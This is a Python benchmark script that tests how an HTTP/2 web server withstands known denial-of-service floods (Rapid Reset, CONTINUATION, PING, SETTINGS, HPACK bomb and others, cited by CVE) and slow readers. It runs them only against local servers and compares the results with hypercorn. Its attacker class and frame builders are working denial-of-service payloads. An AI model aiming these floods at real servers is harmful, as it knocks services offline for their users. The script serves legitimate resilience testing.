"""What clients of HTTP/2 do to hurt: each flood, over a socket, and what becomes of it.

    python bench/floods.py [pixie] [hypercorn]      every row of the table
    python bench/floods.py --rows ping,settings     some of them
    python bench/floods.py --readers 1000           slow readers beside the pool

Each row has a server of its own, with all limits at their defaults, on 127.0.0.1. One
client sends so many frames, in a process of its own, and is done when the server ends
the connection, has answered a PING behind the last frame, or LONGEST_SECONDS are over.
Meanwhile another client asks for a small answer, each time on a new connection of
HTTP/1.1. A row prints how the server answered, its CPU time, by how much its memory
grew at most, and how long the other client waited, at the median and at most.

hypercorn (pip install hypercorn) serves the same routes for comparison.
"""

from __future__ import annotations

import argparse
import importlib.util
import multiprocessing
import re
import resource
import selectors
import socket
import struct
import sys
import tempfile
import time
from contextlib import closing, contextmanager
from pathlib import Path
from typing import Any, Dict, Iterator, List, NamedTuple, Sequence, Tuple

from wire import Server, cpu_times

ROOT = Path(__file__).resolve().parent.parent
LONGEST_SECONDS = 20.0
HOLD_SECONDS = 3.0  # for which a client holds its windows shut
READERS_SECONDS = 10.0
PIECE_BYTES = 65_536

OURS = """
import asyncio
import resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 20_000))
from pixie_web import RouteType, route, run

@route("/", RouteType.asnc)
async def index(env): return "small"

@route("/wait", RouteType.asnc)
async def wait(env): await asyncio.sleep(5)

@route("/large", RouteType.asnc)
async def large(env): return b"x" * (1 << 20)

@route("/post", RouteType.asnc, "POST")
async def post(env): return str(len(env.body))

@route("/pool")
def pool(env): return "pooled"

@route("/answer")
def answer(env): return b"x" * (1 << 18)

run(access_log=False, workers=2)
"""
THEIRS = """
import asyncio

async def body_of(receive):
    size = 0
    while True:
        event = await receive()
        size += len(event.get("body", b""))
        if event["type"] != "http.request" or not event.get("more_body"):
            return str(size).encode()

async def app(scope, receive, send):
    if scope["type"] != "http":
        raise RuntimeError
    body = b"small"
    if scope["path"] == "/wait":
        await asyncio.sleep(5)
    elif scope["path"] == "/large":
        body = b"x" * (1 << 20)
    elif scope["path"] == "/post":
        body = await body_of(receive)
    length = str(len(body)).encode()
    headers = [(b"content-length", length)]
    await send({"type": "http.response.start", "status": 200, "headers": headers})
    await send({"type": "http.response.body", "body": body})
"""

# Frames -------------------------------------------------------------------------------

DATA, HEADERS, PRIORITY, RST, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = (
    *(0, 1, 2, 3, 4, 6, 7, 8, 9),
)
ACK = END_STREAM = 1
END_HEADERS = 4
CODES = (
    "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT "
    "STREAM_CLOSED FRAME_SIZE_ERROR REFUSED_STREAM CANCEL COMPRESSION_ERROR "
    "CONNECT_ERROR ENHANCE_YOUR_CALM"
).split()
LAST_PING = b"the last"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    size = struct.pack(">L", len(payload))[1:]
    return size + struct.pack(">BBL", kind, flags, stream) + payload


def number(value: int) -> bytes:
    return struct.pack(">L", value)


def block(path: str, method: str = "GET") -> bytes:
    """Return a header block of literals that touch no table."""
    fields = ((":method", method), (":scheme", "http"), (":authority", "localhost"))
    parts = []
    for name, value in (*fields, (":path", path)):
        parts.append(b"\0%c%b" % (len(name), name.encode()))
        parts.append(b"%c%b" % (len(value), value.encode()))
    return b"".join(parts)


def hello(*pairs: Tuple[int, int]) -> bytes:
    payload = b"".join(struct.pack(">HL", *one) for one in pairs)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, payload)


def asking(stream: int, path: str) -> bytes:
    return frame(HEADERS, END_HEADERS | END_STREAM, stream, block(path))


# The floods ---------------------------------------------------------------------------


class Flood(NamedTuple):
    """What one client sends.

    Attributes:
        title: with the number of frames.
        data: all of it.
        settings: of its greeting.
        hold_seconds: how long it holds on when all is sent.
    """

    title: str
    data: bytes
    settings: Sequence[Tuple[int, int]] = ()
    hold_seconds: float = 0.0


OPEN = frame(HEADERS, END_HEADERS, 1, block("/post", "POST"))
BOMB = b"\x40\1x\x7f\xa1\x1e" + b"y" * 4000  # a field of 4 KiB goes into the table
BOMB += b"\xbe" * (16_000 - len(BOMB))  # and is named again and again


def floods() -> Dict[str, Flood]:
    """Return the rows of the table."""
    odd = range(1, 40_001, 2)
    calm = frame(HEADERS, END_STREAM, 1, block("/"))
    return {
        "reset": Flood(
            "20,000 requests, each reset (CVE-2023-44487)",
            b"".join(asking(n, "/wait") + frame(RST, 0, n, number(8)) for n in odd),
        ),
        "made": Flood(
            "20,000 requests that we are made to reset (CVE-2025-8671)",
            b"".join(asking(n, "/wait") + frame(WINDOW, 0, n, number(0)) for n in odd),
        ),
        "continuation": Flood(
            "1,000 CONTINUATION of 700 bytes (CVE-2024-27316)",
            calm + frame(CONTINUATION, 0, 1, b"\0\1x\3yyy" * 100) * 1000,
        ),
        "continuation-empty": Flood(
            "100,000 CONTINUATION of nothing",
            calm + frame(CONTINUATION, 0, 1) * 100_000,
        ),
        "ping": Flood(
            "200,000 PING (CVE-2019-9512)", frame(PING, 0, 0, bytes(8)) * 200_000
        ),
        "settings": Flood(
            "100,000 SETTINGS (CVE-2019-9515)", frame(SETTINGS, 0, 0) * 100_000
        ),
        "priority": Flood(
            "100,000 PRIORITY (CVE-2019-9513)",
            b"".join(
                frame(PRIORITY, 0, n, number(0) + b"\x0f") for n in range(1, 200_001, 2)
            ),
        ),
        "window": Flood(
            "100,000 WINDOW_UPDATE", frame(WINDOW, 0, 0, number(1)) * 100_000
        ),
        "data": Flood(
            "100,000 empty DATA (CVE-2019-9518)",
            OPEN + frame(DATA, 0, 1) * 100_000,
        ),
        "frame": Flood(
            "a frame of 16 MiB",
            OPEN + b"\xff\xff\xff\0\0" + number(1) + bytes(0xFFFFFF),
        ),
        "held": Flood(
            f"a window of 0, 100 answers of 1 MiB, {HOLD_SECONDS:g} s",
            b"".join(asking(n, "/large") for n in range(1, 201, 2)),
            [(4, 0)],
            HOLD_SECONDS,
        ),
        "bomb": Flood(
            "100 header blocks of 16 KB that say 47 MB (CVE-2016-6581)",
            b"".join(
                frame(HEADERS, END_HEADERS | END_STREAM, n, BOMB)
                for n in range(1, 201, 2)
            ),
        ),
    }


class Told(NamedTuple):
    """How a server answered a flood."""

    end: str
    resets: Dict[str, int]
    answers: int
    sent: float  # of all bytes

    def __str__(self) -> str:
        parts = [self.end]
        parts += [f"{count:,} x RST {code}" for code, count in self.resets.items()]
        if self.answers:
            parts.append(f"{self.answers:,} answers")
        return ", ".join(parts) + f", {self.sent:.0%} sent"


class Attacker:
    """One connection that floods."""

    def __init__(self, port: int, flood: Flood) -> None:
        self.socket = socket.create_connection(("127.0.0.1", port), LONGEST_SECONDS)
        self.socket.setblocking(False)
        self.flood = flood
        self.data = memoryview(
            hello(*flood.settings) + flood.data + frame(PING, 0, 0, LAST_PING)
        )
        self.end, self.left, self.at, self.answers = "", b"", 0, 0
        self.resets: Dict[str, int] = {}
        self.held_until = 0.0

    def run(self, seconds: float) -> Told:
        """Send all of it, reading meanwhile; return how the server answered."""
        deadline = time.monotonic() + seconds
        with selectors.DefaultSelector() as selector, closing(self.socket):
            both = selectors.EVENT_READ | selectors.EVENT_WRITE
            selector.register(self.socket, both)
            while not self.end and time.monotonic() < deadline:
                if self.at == len(self.data):
                    selector.modify(self.socket, selectors.EVENT_READ)
                for _, events in selector.select(0.1):
                    self.turn(events)
                if self.held_until and time.monotonic() > self.held_until:
                    self.end = "open"
        sent = self.at / len(self.data)
        return Told(self.end or "no answer in time", self.resets, self.answers, sent)

    def turn(self, events: int) -> None:
        """Read and write what can be."""
        try:
            if events & selectors.EVENT_READ:
                came = self.socket.recv(1 << 20)
                if not came:
                    raise ConnectionError
                self.read(came)
            if events & selectors.EVENT_WRITE and self.at < len(self.data):
                self.at += self.socket.send(self.data[self.at : self.at + PIECE_BYTES])
        except BlockingIOError:
            pass
        except OSError:
            self.end = self.end or "closed"

    def read(self, came: bytes) -> None:
        """Take the server's frames."""
        data, at = self.left + came, 0
        while len(data) >= at + 9:
            end = at + 9 + int.from_bytes(data[at : at + 3], "big")
            if len(data) < end:
                break
            kind, flags, payload = data[at + 3], data[at + 4], data[at + 9 : end]
            at = end
            if kind == GOAWAY:
                code = int.from_bytes(payload[4:8], "big")
                self.end = f"GOAWAY {CODES[code]}"
            elif kind == RST:
                name = CODES[int.from_bytes(payload[:4], "big")]
                self.resets[name] = self.resets.get(name, 0) + 1
            elif kind == HEADERS:
                self.answers += 1
            elif kind == PING and flags & ACK and payload == LAST_PING:
                self.held_until = time.monotonic() + self.flood.hold_seconds
        self.left = data[at:]


def attack(port: int, name: str, results: Any) -> None:
    """Flood, and send what was told."""
    results.send(Attacker(port, floods()[name]).run(LONGEST_SECONDS))
    results.recv()


# The other client, and the server's figures -------------------------------------------


def ask(port: int, path: str = "/") -> float:
    """Ask on a new connection; return the milliseconds that the answer took."""
    began = time.perf_counter()
    line = f"GET {path} HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n"
    with socket.create_connection(("127.0.0.1", port), LONGEST_SECONDS) as one:
        one.sendall(line.encode())
        answer = b"".join(iter(lambda: one.recv(PIECE_BYTES), b""))
    if b" 200 " not in answer[:20]:
        raise ValueError(f"expected 200, got {answer[:100]!r}")
    return (time.perf_counter() - began) * 1000


def cpu_seconds(server: Server) -> float:
    return sum(sum(cpu_times(pid) or (0.0, 0.0)) for pid in server.pids)


def memory_bytes(server: Server, which: str) -> int:
    """Return VmRSS, the memory of all its processes, or VmHWM, the most of it."""
    total = 0
    for pid in server.pids:
        status = Path(f"/proc/{pid}/status").read_text()
        total += int(re.findall(rf"{which}:\s+(\d+) kB", status)[0]) * 1024
    return total


def spread(times: List[float]) -> str:
    ordered = sorted(times)
    return f"{ordered[len(ordered) // 2]:.1f} / {ordered[-1]:.1f} ms"


@contextmanager
def serving(name: str, directory: Path) -> Iterator[Server]:
    """Run a server with the routes of this file."""
    (directory / "ours.py").write_text(OURS)
    (directory / "theirs.py").write_text(THEIRS)
    environment = {"PYTHONPATH": f"{ROOT}:{directory}", "PIXIE_HOST": "127.0.0.1"}
    words = f"{directory}/ours.py"
    if name == "hypercorn":
        words = "-m hypercorn theirs:app --bind 127.0.0.1:{port} -w 0 -k uvloop"
    else:
        environment["PIXIE_PORT"] = "{port}"
    command = [sys.executable, *words.split()]
    if name == "pixie":
        command = ["env", "PIXIE_PORT={port}", *command]
        del environment["PIXIE_PORT"]
    server = Server(name, command, environment)
    try:
        yield server
    finally:
        server.stop()


def row(server: Server, name: str) -> str:
    """Attack a server; return the line of the table."""
    quiet = [ask(server.port) for _ in range(50)]
    memory, cpu = memory_bytes(server, "VmRSS"), cpu_seconds(server)
    ours, theirs = multiprocessing.Pipe()
    process = multiprocessing.Process(target=attack, args=(server.port, name, theirs))
    process.start()
    times = []
    while not ours.poll(0.005):
        times.append(ask(server.port))
    told = ours.recv()
    times += [ask(server.port) for _ in range(10)]
    grown = (memory_bytes(server, "VmHWM") - memory) / 2**20
    used = cpu_seconds(server) - cpu
    ours.send(None)
    process.join()
    return (
        f"  {server.name:10}{told}; {used:.2f} s CPU; {grown:+.1f} MiB; other client "
        f"{spread(times)} (quiet {spread(quiet)})"
    )


# Slow readers -------------------------------------------------------------------------


def read_slowly(port: int, count: int, results: Any) -> None:
    """Ask for an answer on each of so many connections, and take 1 KiB a second."""
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    ones = []
    for _ in range(count):
        one = socket.create_connection(("127.0.0.1", port), LONGEST_SECONDS)
        one.sendall(hello((4, 1024)) + asking(1, "/answer"))
        while len(one.recv(PIECE_BYTES)) < 1024:  # the head and the first piece
            pass
        one.setblocking(False)
        ones.append(one)
    came = [b""] * count
    results.send(count)
    while not results.poll(1.0):
        for at, one in enumerate(ones):
            try:
                one.send(frame(WINDOW, 0, 1, number(1024)))
                came[at] += one.recv(PIECE_BYTES)
            except (BlockingIOError, ConnectionError):
                pass
    results.send(sum(len(data) > 1024 for data in came))


def beside_slow_readers(server: Server, count: int) -> str:
    """Return what the pool's latency is without and with them."""

    def sample() -> List[float]:
        end, times = time.monotonic() + READERS_SECONDS, []
        while time.monotonic() < end:
            times.append(ask(server.port, "/pool"))
            time.sleep(0.005)
        return times

    quiet = sample()
    memory = memory_bytes(server, "VmRSS")
    ours, theirs = multiprocessing.Pipe()
    process = multiprocessing.Process(
        target=read_slowly, args=(server.port, count, theirs)
    )
    process.start()
    ours.recv()
    cpu = cpu_seconds(server)
    times = sample()
    cpu = (cpu_seconds(server) - cpu) / READERS_SECONDS
    grown = (memory_bytes(server, "VmHWM") - memory) / 2**20
    ours.send(None)
    fed = ours.recv()
    process.join()
    return (
        f"{count:,} readers of 256 KiB, 1 KiB a second each, {fed:,} were fed: the "
        f"pool {spread(times)}, without {spread(quiet)}; {grown:+.0f} MiB, "
        f"{cpu:.0%} of a core"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("servers", nargs="*", default=["pixie", "hypercorn"])
    parser.add_argument("--rows", default=",".join(floods()))
    parser.add_argument("--readers", type=int, default=0)
    options = parser.parse_args()
    installed = [
        name
        for name in options.servers
        if name == "pixie" or importlib.util.find_spec(name) is not None
    ]
    with tempfile.TemporaryDirectory() as directory:
        if options.readers:
            with serving("pixie", Path(directory)) as server:
                print(beside_slow_readers(server, options.readers))
            return
        for name in options.rows.split(","):
            print(floods()[name].title, flush=True)
            for which in installed:
                with serving(which, Path(directory)) as server:
                    print(row(server, name), flush=True)


if __name__ == "__main__":
    main()
